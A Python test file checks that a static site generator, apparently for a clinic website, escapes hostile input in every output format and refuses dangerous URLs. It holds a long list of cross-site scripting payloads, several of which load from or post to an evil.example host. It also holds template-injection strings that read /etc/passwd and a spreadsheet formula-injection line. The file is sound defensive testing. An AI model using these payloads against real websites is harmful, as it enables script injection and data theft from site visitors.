"""No field of the content can make anything live, in any kind of file; its words arrive whole, escaped once."""

import os
import re
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.hostile.fields import (
    BESIDE,
    SHAPES,
    Step,
    as_bytes,
    is_read,
    merge,
    walk_fields,
    with_field,
)
from tests.hostile.parsers import read_html, read_output
from tests.hostile.sites import HEAD, build, make_site, put
from tests.laws.sites import read_tree

MARK = "Zq17"
PAYLOADS = {
    "tags": MARK
    + """ "><img src=x onerror=alert(1)>'</script><script>alert(1)</script></title></style><svg/onload=alert(1)>""",
    "entities": MARK + " &lt;b&gt; &amp;amp; &#60;i&#62; &quot; &nbsp; &copy; 'a' \"b\" <c> a&b=c&copy=d",
    "ends": MARK + " ]]> --> <!-- */ /* \\ \\n \\u003c ); }; {{ 7*7 }} {% raw %} ${7*7} #{7} <%= 7 %> @import %s %(a)s",
    "lines": MARK + " BEGIN:VCARD;X:a,b\\,c;d END:VCARD ATTACH:file:///etc/passwd =cmd|'/c calc'!A @SUM(A) +A -A",
    "schemes": MARK
    + " javascript:alert(1) data:text/html,<script>alert(1)</script> vbscript:x [a](javascript:alert(1))",
}
NAMED = {
    "clinic", "clinics", "photo", "image", "card", "transcript", "url",  # names of something: see the last test
    "phone", "fax", "settings", "screening", "scheme", "bio",
}  # fmt: skip
"""Fields whose words name something else, are read as numbers, or are Markdown: odd ones are refused where they lead nowhere."""


def _ways(path: str) -> Iterator[tuple[Step, ...]]:
    for way in walk_fields(SHAPES[path]):
        clinic_again = path == "content/site.yaml" and way[0].name == "clinic"  # beside "clinics" it would be twice
        if way[-1].name not in NAMED and not clinic_again:
            yield way


def _filled(path: str, payload: str) -> tuple[dict[str, Any], int]:
    """Return a document with `payload` in every field that takes it, and how many these are."""
    values, count = dict(BESIDE[SHAPES[path].__name__]), 0
    for way in _ways(path):
        if way[-1].name == "emergency" and sum(letter.isdigit() for letter in payload) > 2:
            continue  # its digits would be a telephone number of nobody
        forms: tuple[Any, ...] = ([payload], payload, {"own": payload})
        taken = next((with_field(way, form) for form in forms if is_read(path, with_field(way, form))), None)
        if taken is not None:
            values, count = merge(values, taken), count + 1
    return values, count


def _site(root: Path, payload: str) -> Path:
    site = make_site(root / "site")
    for path, least in (("site.yaml", 9), ("doctors/odd.yaml", 15), ("articles/odd.md", 9), ("pages/odd.md", 4)):
        values, count = _filled(f"content/{path}", payload)
        assert count >= least, f"the payload stands in {count} fields of {path} only"
        if path == "articles/odd.md":
            values = {**values, "authors": ["odd"], "reviewed_by": ["odd"]}
        text = f"Words with ``{payload}`` in them.\n\n## A heading\n\nAn end."
        put(site, f"content/{path}", as_bytes(f"content/{path}", values, text))
    return site


@pytest.mark.parametrize("name", PAYLOADS)
def test_nothing_is_live_and_the_words_arrive_whole_in_every_kind_of_file(tmp_path: Path, name: str) -> None:
    site = _site(tmp_path, PAYLOADS[name])
    code, said = build(site)
    assert code == 0, said
    found: dict[str, int] = {}
    for path in read_tree(site / "output"):
        seen = read_output(path, (site / "output" / path).read_bytes())
        assert seen.live == (), path
        for text in seen.texts:
            if MARK in text:
                assert _is_whole(text, PAYLOADS[name]), f"{path}: {text[:300]}"
                ending = path.rpartition(".")[2]
                found[ending] = found.get(ending, 0) + 1
    assert found.keys() >= {"html", "xml", "json", "vcf", "ics", "opml"}, found
    assert found["html"] > 50


def _is_whole(text: str, payload: str) -> bool:
    """Say whether every time that the mark stands in `text` all of the payload does, or a cut that shows itself.

    Addresses are told percent-encoded. In titles of social networks a long text is cut at a word, with "…".
    """
    said = " ".join(urllib.parse.unquote(text).split()).casefold()
    rest = " ".join(payload.split()).casefold().removeprefix(MARK.casefold())
    for piece in said.split(MARK.casefold())[1:]:
        common = os.path.commonprefix([piece, rest])  # noqa: RUF071 - letter by letter is what is wanted
        if len(common) < len(rest) and not re.match(r"\s?\S{0,3}…", piece[len(common.rstrip()) :]):
            return False
    return True


LIVE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" alt="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" &#1; javascript:alert(1)">a</a>',
    '<a href="java&#10;script:alert(1)">a</a>',
    '<a href="&#106;avascript&colon;alert(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
    '<a href="vbscript:x">a</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></mtext></math>',
    '<form action="https://evil.example"><input name="q"><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>body{background:url(//evil.example)}</style>",
    '<p style="background:url(//evil.example)">a</p>',
    '<div onmouseover="alert(1)">a</div>',
    "<details open ontoggle=alert(1)><summary>a</summary>b</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml <script>alert(1)</script>?>",
    "</article></main><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](\u00a0javascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a](/about/ "\\"><img src=x onerror=alert(1)>")',
    '![a" onerror="alert(1)](x.png)',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    '## A "><script>alert(1)</script> heading {#"><img}',
    '## A heading {#a onclick="alert(1)"}',
    ":::note <script>alert(1)</script>\nText.\n:::",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "Text.[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "Term <script>alert(1)</script>\n: <img src=x onerror=alert(1)>",
    "https://a.example/<script>alert(1)</script>",
    "a@b.example<script>alert(1)</script>",
    "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} ${7 * 7} {{ 7 * 7 }}",
    "\ufdd00\ufdd0 &#xFDD0;0&#xFDD0; &#0;1&#0;",
]


def test_whatever_stands_in_markdown_nothing_is_live(tmp_path: Path) -> None:
    site = make_site(tmp_path / "site")
    refused = set[int]()
    code, said = 1, ""
    for _ in range(4):  # what is refused in one turn is taken out for the next
        for number, text in enumerate(LIVE):
            path = f"content/pages/odd-{number}.md"
            if number in refused:
                (site / path).unlink(missing_ok=True)
            else:
                put(site, path, HEAD.replace("A text", f"Text {number}") + text + "\n")
        code, said = build(site)
        if code == 0:
            break
        refused |= {int(at) for at in re.findall(r"odd-(\d+)(?:\.md|/index\.html):\d+:\d+: (?:error|block)", said)}
    assert code == 0, said
    assert len(refused) < len(LIVE) * 0.8, "most of these are not errors, but harmless"
    for path in read_tree(site / "output"):
        assert read_output(path, (site / "output" / path).read_bytes()).live == (), path
    page = read_html((site / f"output/odd-{len(LIVE) - 2}/index.html").read_bytes())
    assert any("{% include" in text and "${7 * 7} {{ 7 * 7 }}" in text for text in page.texts)


def test_the_parsers_see_what_is_live() -> None:
    """A test that could not fail would be worth nothing: each of these is seen."""
    for text in (*LIVE[:2], *LIVE[3:6], *LIVE[8:14]):
        assert read_html(text.encode()).live, text
    assert (
        read_html(b'<a href="https://a.example">a</a><script type="application/ld+json">{"a": 1}</script>').live == ()
    )
    assert not _is_whole("Zq17 &lt;b&gt;", f"{MARK} <b>")
    assert not _is_whole("Zq17 ", f"{MARK} <b>")
    assert _is_whole("A Zq17 <b> and more, Zq17 <b>", f"{MARK} <b>")
    assert _is_whole("Zq17 one two…", f"{MARK} one two three")


@pytest.mark.parametrize(
    ("path", "values"),
    [
        ("content/doctors/odd.yaml", {"photo": PAYLOADS["tags"], "photo_alt": "A face"}),
        ("content/articles/odd.md", {"image": PAYLOADS["tags"], "image_alt": "x"}),
        ("content/articles/odd.md", {"authors": [PAYLOADS["tags"]]}),
        ("content/articles/odd.md", {"card": PAYLOADS["tags"], "card_alt": "x"}),
        ("content/site.yaml", {"navigation": [{"label": "a", "url": "javascript:alert(1)"}]}),
        ("content/site.yaml", {"navigation": [{"label": "a", "url": PAYLOADS["tags"]}]}),
        ("content/site.yaml", {"url": "https://a.example/\"><script>"}),
        ("content/site.yaml", {"url": "javascript:alert(1)"}),
        ("content/doctors/odd.yaml", {"booking": "javascript:alert(1)"}),
        ("content/doctors/odd.yaml", {"booking": "https://a.example/\"onclick=x"}),
        ("content/doctors/odd.yaml", {"email": '"><script>@a.example'}),
        ("content/articles/odd.md", {"references": [{"text": "a", "url": "javascript:alert(1)"}]}),
        ("content/articles/odd.md", {"syndication": ["javascript:alert(1)"]}),
        ("content/articles/odd.md", {"language": '"><script>'}),
        ("content/articles/odd.md", {"aliases": ['/"><script>/']}),
    ],
)  # fmt: skip
def test_words_that_name_something_are_refused_where_nothing_has_that_name(
    tmp_path: Path, path: str, values: dict[str, Any]
) -> None:
    site = make_site(tmp_path / "site")
    put(site, path, as_bytes(path, {**BESIDE[SHAPES[path].__name__], **values}))
    code, said = build(site)
    assert code == 1, said
    assert re.search(rf"^{re.escape(path)}:\d+:\d+: error ", said, re.MULTILINE), said
